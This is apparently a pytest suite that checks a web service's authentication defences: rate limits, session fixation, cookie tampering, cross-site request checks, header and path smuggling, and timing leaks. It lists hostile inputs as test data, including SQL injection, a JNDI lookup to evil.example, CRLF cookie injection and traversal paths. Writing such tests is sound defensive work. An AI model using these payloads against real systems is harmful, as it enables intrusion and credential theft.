"""What somebody may try at log-in, at sessions and at keys, and what comes of it."""

import concurrent.futures
import os
import statistics
import time

import pytest

from support.access import BOOTSTRAP, PASSWORD, bearer, log_in, make_key, make_person, session_of, token_of, with_session
from support.make import audit_events, expect, expect_error, make_asset, make_contract, make_team, object_schema, unique

LONG = bool(os.environ.get("TESSERA_TEST_LONG"))
SCRIPT = {"X-Requested-With": "test"}
FORM = "application/x-www-form-urlencoded"


@pytest.fixture(scope="module")
def person(guarded, admin):
    return make_person(admin, make_team(admin), role="admin")


@pytest.fixture(scope="module")
def token(guarded, person):
    return token_of(log_in(guarded, person))


def status_of(server, headers, path="/teams"):
    return server.api(headers=headers).get(path).status_code


# --- guessing ---------------------------------------------------------------------------------------------------------


def limited(start_server, **settings):
    """A server behind a proxy, so that a test has many addresses, and a user of it."""
    running = start_server(settings={"BOOTSTRAP_API_KEY": BOOTSTRAP, "TESSERA_TRUSTED_PROXIES": "127.0.0.1", **settings})
    admin = running.api(headers=bearer(BOOTSTRAP))
    return running, make_person(admin, make_team(admin))


def at(address, **headers):
    return {"X-Forwarded-For": address, **headers}


def test_brute_force(start_server):
    """An address has so many failures, and then not even the right password is looked at; nobody else is kept out."""
    running, user = limited(start_server, RATE_LIMIT_AUTH="3/day")
    for _ in range(2):
        for _ in range(2):  # what succeeds is not counted
            assert log_in(running, user, headers=at("198.51.100.7")).headers["location"] == "/"
        assert log_in(running, user, "wrong", headers=at("198.51.100.7")).headers["location"].startswith("/login?error=invalid")
    assert log_in(running, unique("nobody"), headers=at("198.51.100.7")).status_code == 302
    for guess in (PASSWORD, "wrong"):
        reply = log_in(running, user, guess, headers=at("198.51.100.7"))
        error = expect_error(reply, 429, "RATE_LIMIT_EXCEEDED")
        assert error["details"]["class"] == "auth" and int(reply.headers["retry-after"]) > 1
    elsewhere = log_in(running, user, headers=at("203.0.113.9"))
    assert elsewhere.headers["location"] == "/"
    # A session goes on from the address that may not log in, and so does a key.
    assert status_of(running, with_session(token_of(elsewhere), **at("198.51.100.7"))) == 200
    assert status_of(running, at("198.51.100.7", **bearer(BOOTSTRAP))) == 200


def test_who_sends_nothing_keeps_nobody_out(start_server):
    """Any page can make a browser ask without a credential, or with a session that has ended, as often as it likes."""
    running, user = limited(start_server, RATE_LIMIT_AUTH="2/day")
    ended = token_of(log_in(running, user))
    assert running.client(headers=with_session(ended)).get("/logout").status_code == 302
    for headers in ({}, {"Sec-Fetch-Site": "cross-site"}, with_session(ended), with_session("0" * 64)):
        for _ in range(3):
            assert status_of(running, headers) == 401
    assert log_in(running, user).headers["location"] == "/"


def test_an_address_of_ipv6_is_its_network(start_server):
    running, user = limited(start_server, RATE_LIMIT_AUTH="2/day")
    statuses = [log_in(running, user, "wrong", headers=at(f"2001:db8:1:2::{number:x}")).status_code for number in range(1, 5)]
    assert statuses == [302, 302, 429, 429]
    assert log_in(running, user, headers=at("2001:db8:1:3::1")).headers["location"] == "/"


def test_guesses_that_come_together(start_server):
    """As many as may fail are looked at, however many are under way."""
    running, user = limited(start_server, RATE_LIMIT_AUTH="4/day")
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        replies = list(pool.map(lambda _: log_in(running, user, "wrong", headers=at("198.51.100.7")), range(12)))
    assert sorted(reply.status_code for reply in replies) == [302] * 4 + [429] * 8


def test_stuffing_from_many_addresses(start_server):
    """What cannot be compared at once waits, and beyond that is refused; who is in stays in, and the server answers."""
    running, user = limited(start_server, TESSERA_MAX_QUEUED_HASHES=3)
    session = session_of(running, user)
    live = running.client()

    def stuff(number):
        return log_in(running, unique("leaked"), "hunter2 hunter2", headers=at(f"10.{number % 250}.{number // 250}.1"))

    with concurrent.futures.ThreadPoolExecutor(24) as pool:
        under_way = [pool.submit(stuff, number) for number in range(72)]
        while not all(future.done() for future in under_way):
            assert live.get("/health/live").status_code == 200
            assert status_of(running, session) == 200
        replies = [future.result() for future in under_way]
    assert {reply.status_code for reply in replies} == {302, 503}
    assert all(int(reply.headers["retry-after"]) >= 1 for reply in replies if reply.status_code == 503)
    assert log_in(running, user).headers["location"] == "/"


# --- cookies ----------------------------------------------------------------------------------------------------------


def test_fixation(guarded, admin):
    """A log-in takes nothing over from the browser, and ends what it had."""
    user = make_person(admin, make_team(admin))
    planted = "0123456789abcdef" * 4
    reply = log_in(guarded, user, headers={"Cookie": f"session={planted}"})
    first = token_of(reply)
    assert first != planted and status_of(guarded, with_session(planted)) == 401
    second = token_of(log_in(guarded, user, headers={"Cookie": f"session={first}"}))
    assert second != first
    assert [status_of(guarded, with_session(token)) for token in (first, second)] == [401, 200]
    third = token_of(log_in(guarded, user, headers={"Cookie": f"session={planted}; session={second}"}))
    assert [status_of(guarded, with_session(token)) for token in (second, third)] == [200, 200]


def test_replay(guarded, admin):
    user = make_person(admin, make_team(admin))
    headers = session_of(guarded, user)
    assert guarded.client(headers=headers).get("/logout").status_code == 302
    for method, path in [("GET", "/teams"), ("POST", "/teams"), ("GET", "/me"), ("DELETE", "/me/sessions")]:
        expect_error(guarded.api(headers=headers).request(method, path), 401, "MISSING_API_KEY")
    again = log_in(guarded, user, headers=headers)
    assert token_of(again) not in (None, headers["Cookie"].split("=")[1])


def tampered(token):
    other = "0" if token[0] != "0" else "1"
    flipped = [token[:i] + ("0" if token[i] != "0" else "1") + token[i + 1 :] for i in (0, 31, 63)]
    return [
        *flipped, token[:-1], token + "0", token + token, token.upper(), token[::-1], f'"{token}"', f"{token}%00", f"{token}=", f"={token}",
        f"{token[:32]} {token[32:]}", "", "null", "0" * 64, other * 64, "../" * 21 + "x", "' OR 1=1 --", f"{token}, session={token}", "\xff" * 64,
    ]  # fmt: skip


def test_tampering(guarded, token):
    api = guarded.api()
    assert api.get("/me", headers=with_session(token)).status_code == 200
    for value in tampered(token):
        if value == token.upper() == token:  # digits alone
            continue
        headers = [(b"Cookie", b"session=" + value.encode("latin-1"))]
        assert api.get("/me", headers=headers).status_code == 401, value
    for name in ("Session", "SESSION", "xsession", "session2", "__Host-session", "sess ion"):
        assert api.get("/me", headers={"Cookie": f"{name}={token}"}).status_code == 401


def test_duplicate_and_giant_cookies(guarded, token):
    """Of two cookies one may be another site's of the same domain: neither counts."""
    api = guarded.api()
    good = f"session={token}"
    for value, status in [
        (f"a=b; {good}; c", 200), (f"{good};", 200), (f";;{good}", 200), (f"{good}; {good}", 401), (f"session=x; {good}", 401), (f"{good}; session=x", 401),
        (f"{good}; session=", 401), ("; ".join(f"c{i}={i}" for i in range(2000)) + "; " + good, 200), (good + "; x=" + "y" * 20_000, 200),
        ("session=" + "0" * 20_000, 401), ("=" * 10_000, 401), (";" * 10_000, 401),
    ]:  # fmt: skip
        assert api.get("/me", headers={"Cookie": value}).status_code == status, value[:100]
    twice = [("Cookie", good), ("Cookie", good)]
    assert api.get("/me", headers=twice).status_code == 401
    expect_error(api.get("/me", headers={"Cookie": good + "; x=" + "y" * 40_000}), 431, "HEADERS_TOO_LARGE")


def test_a_secret_counts_where_it_belongs(guarded, admin, token):
    """Also once the server knows it from its own place."""
    key = make_key(admin, make_team(admin))["key"]
    for _ in range(3):
        assert status_of(guarded, with_session(token)) == status_of(guarded, bearer(key)) == 200
        expect_error(guarded.api(headers=bearer(token)).get("/me"), 401, "INVALID_API_KEY")
        for value in (key, BOOTSTRAP):
            expect_error(guarded.api(headers=with_session(value)).get("/me"), 401, "MISSING_API_KEY")


# --- other sites ------------------------------------------------------------------------------------------------------


def own(server):
    return f"http://127.0.0.1:{server.port}"


@pytest.mark.parametrize(
    ("headers", "fine"),
    [
        (SCRIPT, True), ({}, False), ({"X-Requested-With": ""}, False), ({**SCRIPT, "Origin": "{own}"}, True), ({"Origin": "{own}"}, False),
        ({**SCRIPT, "Origin": "http://localhost:3000"}, True), ({"Origin": "http://localhost:3000"}, False), ({**SCRIPT, "Origin": "null"}, False),
        ({**SCRIPT, "Origin": ""}, False), ({**SCRIPT, "Origin": "https://evil.example"}, False), ({**SCRIPT, "Origin": "{own}.evil.example"}, False),
        ({**SCRIPT, "Origin": "http://127.0.0.1"}, False), ({**SCRIPT, "Origin": "http://127.0.0.1:1"}, False), ({**SCRIPT, "Origin": "{own}/"}, False),
        ({**SCRIPT, "Origin": "{own} {own}"}, False), ({**SCRIPT, "Origin": "http://user@127.0.0.1:{port}"}, False), ({**SCRIPT, "Origin": "ftp://127.0.0.1:{port}"}, False),
        ({**SCRIPT, "Sec-Fetch-Site": "cross-site"}, False), ({**SCRIPT, "Sec-Fetch-Site": "same-site"}, False), ({**SCRIPT, "Sec-Fetch-Site": "same-origin"}, True),
        ({**SCRIPT, "Origin": "{own}", "Referer": "https://evil.example/"}, True), ({**SCRIPT, "Host": "evil.example", "Origin": "{own}"}, False),
        ({**SCRIPT, "Host": "tessera.example", "Origin": "https://tessera.example"}, True), ({**SCRIPT, "Host": "Tessera.Example:443", "Origin": "https://tessera.example"}, True),
        ({**SCRIPT, "Host": "tessera.example:80", "Origin": "http://tessera.example"}, True), ({**SCRIPT, "Host": "tessera.example:80", "Origin": "https://tessera.example"}, False),
        ({"Content-Type": FORM}, False), ({"Content-Type": "text/plain"}, False), ({"Content-Type": "multipart/form-data; boundary=x"}, False),
    ],
)  # fmt: skip
def test_cross_site_requests(guarded, admin, token, headers, fine):
    headers = {name: value.format(own=own(guarded), port=guarded.port) for name, value in headers.items()}
    api = guarded.api(headers={"Cookie": f"session={token}", **headers})
    team = make_team(admin)
    requests = [("POST", "/teams", {"name": unique()}), ("PATCH", f"/teams/{team['id']}", {"description": "x"}), ("DELETE", f"/teams/{team['id']}", None)]
    for method, path, body in requests:
        reply = api.request(method, path, json=body) if body is not None and "Content-Type" not in headers else api.request(method, path)
        if fine:
            assert reply.status_code in (200, 201, 204), reply.text
        else:
            expect_error(reply, 403, "CROSS_SITE_REQUEST")
    assert api.get("/teams").status_code == 200
    assert (admin.get(f"/teams/{team['id']}").status_code == 404) == fine


def test_a_call_that_records_something_is_a_change(guarded, admin):
    """Whatever its method: that somebody looked is what discovery goes by."""
    team = make_team(admin)
    headers = session_of(guarded, make_person(admin, team, role="team_admin"))
    asset = make_asset(admin, team)
    make_contract(admin, asset, object_schema(a="string"))
    path = f"/assets/{asset['fqn']}/preflight"
    expect_error(guarded.api(headers={"Cookie": headers["Cookie"]}).get(path), 403, "CROSS_SITE_REQUEST", "X-Requested-With")
    expect_error(guarded.api(headers=headers | {"Sec-Fetch-Site": "cross-site"}).get(path), 403, "CROSS_SITE_REQUEST")
    assert guarded.api(headers=headers).get(path).status_code == 200
    assert len(audit_events(guarded, asset["id"], "preflight.checked")) == 1


def test_log_in_from_another_site(guarded, person):
    """Else a site could have its visitors work under an account of its own."""
    for origin in ("https://evil.example", "null", f"{own(guarded)}.evil.example"):
        expect_error(log_in(guarded, person, headers={"Origin": origin}), 403, "CROSS_SITE_REQUEST")
    expect_error(log_in(guarded, person, headers={"Sec-Fetch-Site": "cross-site"}), 403, "CROSS_SITE_REQUEST")
    assert log_in(guarded, person, headers={"Origin": own(guarded), "Sec-Fetch-Site": "same-origin"}).headers["location"] == "/"


def test_log_out_from_another_site(guarded, person):
    session = session_of(guarded, person)
    for site in ("cross-site", "same-site"):
        reply = guarded.client(headers={**session, "Sec-Fetch-Site": site}).get("/logout")
        assert reply.headers["location"] == "/login" and "set-cookie" not in reply.headers
        assert status_of(guarded, session) == 200
    guarded.client(headers={**session, "Sec-Fetch-Site": "same-origin"}).get("/logout")
    assert status_of(guarded, session) == 401


def test_any_origin_is_none_that_is_named(start_server):
    """CORS_ORIGINS of `*` lets every site call, but not with a session."""
    running = start_server(settings={"BOOTSTRAP_API_KEY": BOOTSTRAP, "CORS_ORIGINS": "*"})
    admin = running.api(headers=bearer(BOOTSTRAP))
    session = session_of(running, make_person(admin, make_team(admin), role="admin"))
    for origin in ("https://evil.example", "*"):
        reply = running.api(headers={**session, "Origin": origin}).post("/teams", json={"name": unique()})
        expect_error(reply, 403, "CROSS_SITE_REQUEST")
        assert "access-control-allow-credentials" not in reply.headers


# --- headers and paths ------------------------------------------------------------------------------------------------


def test_headers_by_hand(guarded, connect, token):
    """Duplicates, folded lines, bytes that are none of a header: never a reply that a credential would have had."""
    cookie, key = f"Cookie: session={token}\r\n", f"Authorization: Bearer {BOOTSTRAP}\r\n"
    for lines, allowed in [
        (cookie, {200}), (key, {200}), (key + key, {401}), (key + "Authorization: \r\n", {401}), ("Authorization: \r\n" + key, {401}),
        (key + "AUTHORIZATION: Bearer x\r\n", {401}), (cookie + key + key, {401}), ("Authorization:\r\n Bearer " + BOOTSTRAP + "\r\n", {400}),
        ("Cookie:\r\n session=" + token + "\r\n", {400}), ("Cookie : session=" + token + "\r\n", {400}), ("Authorization : Bearer " + BOOTSTRAP + "\r\n", {400}),
        ("X: y\rCookie: session=" + token + "\r\n", {400}), ("X: y\nAuthorization: Bearer " + BOOTSTRAP + "\r\n", {400, 200}), ("Cookie: session=" + token + "\0\r\n", {400}),
        ("Content-Length: 0\r\nTransfer-Encoding: chunked\r\n" + key, {400}), ("Content-Length: 0\r\nContent-Length: 1\r\n" + key, {400}),
        ("Author\u00eftion: Bearer " + BOOTSTRAP + "\r\n", {400, 401}), ("X-Authorization: Bearer " + BOOTSTRAP + "\r\n", {401}),
        ("Proxy-Authorization: Bearer " + BOOTSTRAP + "\r\n", {401}), ("Cookie2: session=" + token + "\r\n", {401}),
    ]:  # fmt: skip
        reply = connect(guarded).send("GET /api/v1/teams?limit=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + lines + "\r\n").reply()
        assert reply.status in allowed, (lines, reply)


@pytest.mark.parametrize(
    "path",
    [
        "//api/v1/teams", "/api//v1/teams", "/api/v1//teams", "/api/v1/teams/", "/api/v1/../v1/teams", "/api/v1/teams/..", "/api/v1/./teams", "/docs/../api/v1/teams",
        "/docs/..;/api/v1/teams", "/%61pi/v1/teams", "/api/v1/%74eams", "/api%2fv1%2fteams", "/api/v1/%2e%2e/v1/teams", "/login/../api/v1/teams", "/login/%2e%2e/api/v1/teams",
        "/API/v1/teams", "/api/v1/Teams", "/api/v1/teams;x=y", "/api/v1/teams%00", "/api/v1/teams%20", "/api/v1/teams.json", "/health/../api/v1/me", "/api/v1/teams%3flimit=1",
    ],
)  # fmt: skip
def test_paths_by_hand(guarded, connect, token, path):
    """No spelling of a path is another route's, with or without a credential."""
    for lines in ("", f"Cookie: session={token}\r\n", f"Authorization: Bearer {BOOTSTRAP}\r\n"):
        reply = connect(guarded).send(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{lines}\r\n").reply()
        assert reply.status in ((400, 404, 422) if lines else (400, 401, 404)), (path, reply)


# --- injection --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE users; --", "admin'/*", "\" OR \"\"=\"", "%", "_", "*", "\\", "x' UNION SELECT password_hash FROM users --",
        '{"$ne": null}', '{"username": "root"}', "[]", "null", "true", "${jndi:ldap://evil.example/x}", "{{7*7}}", "%s%n%x", "a\r\nSet-Cookie: session=x", "\ud7ff\U0001f600",
    ],
)  # fmt: skip
def test_injection(guarded, admin, person, text):
    for user, password in ((text, PASSWORD), (person, text), (person["username"] + text, PASSWORD), (text, text)):
        reply = log_in(guarded, user, password)
        assert (reply.status_code, reply.headers["location"]) == (302, "/login?error=invalid")
        assert "set-cookie" not in reply.headers
    assert expect(admin.get(f"/users/{person['id']}"), 200)["username"] == person["username"]


@pytest.mark.parametrize("fields", [{"username[$ne]": "x", "password[$ne]": "x"}, {"username[]": "root", "password[]": PASSWORD}, {"username.x": "root", "password": PASSWORD}])
def test_fields_of_other_shapes(guarded, fields):
    assert guarded.client().post("/login", data=fields).status_code == 422


# --- what time tells --------------------------------------------------------------------------------------------------


def timed(call):
    began = time.perf_counter()
    call()
    return time.perf_counter() - began


def differ(first, second, rounds):
    """How far the medians of two calls are apart, as a part of the spread of one of them: the calls take turns, so that what else the machine does meets both."""
    taken = ([], [])
    for number in range(rounds):
        for which in (number % 2, 1 - number % 2):
            taken[which].append(timed((first, second)[which]))
    medians = [statistics.median(times) for times in taken]
    quarters = statistics.quantiles(taken[0], n=4)
    return abs(medians[0] - medians[1]) / max(quarters[2] - quarters[0], 1e-9), medians


def nobody(admin):
    return unique("nobody")


def bot(admin):
    user = make_person(admin, make_team(admin))
    expect(admin.patch(f"/users/{user['id']}", json={"user_type": "bot"}), 200)
    return user["username"]


def gone(admin):
    user = make_person(admin, make_team(admin))
    assert admin.delete(f"/users/{user['id']}").status_code == 204
    return user["username"]


@pytest.mark.skipif(not LONG, reason="takes minutes: TESSERA_TEST_LONG")
@pytest.mark.parametrize("kind", [nobody, bot, gone])
def test_time_of_log_in(guarded, admin, person, kind):
    """Whether a name is known, has a password, or was deactivated."""
    client, other = guarded.client(), kind(admin)

    def wrong(username):
        return lambda: client.post("/login", data={"username": username, "password": "a wrong password"})

    apart, medians = differ(wrong(person["username"]), wrong(other), 30)
    assert apart < 1, (apart, medians)


@pytest.mark.skipif(not LONG, reason="takes minutes: TESSERA_TEST_LONG")
def test_time_of_keys_and_tokens(guarded, admin, token):
    """Whether a prefix fits: of the bootstrap key, of a key, of a session's token."""
    key = make_key(admin, make_team(admin))["key"]
    client = guarded.client(checked=False)

    def refused(headers):
        return lambda: client.get("/api/v1/me", headers=headers)

    pairs = [
        (bearer(BOOTSTRAP[:-1] + "!"), bearer("!" + BOOTSTRAP[1:])),
        (bearer(key[:-1] + ("0" if key[-1] != "0" else "1")), bearer(key[:10] + ("0" if key[10] != "0" else "1") + key[11:])),
        (with_session(token[:-1] + ("0" if token[-1] != "0" else "1")), with_session(("0" if token[0] != "0" else "1") + token[1:])),
    ]
    for near, far in pairs:
        apart, medians = differ(refused(near), refused(far), 1500)
        assert apart < 0.5, (apart, medians)
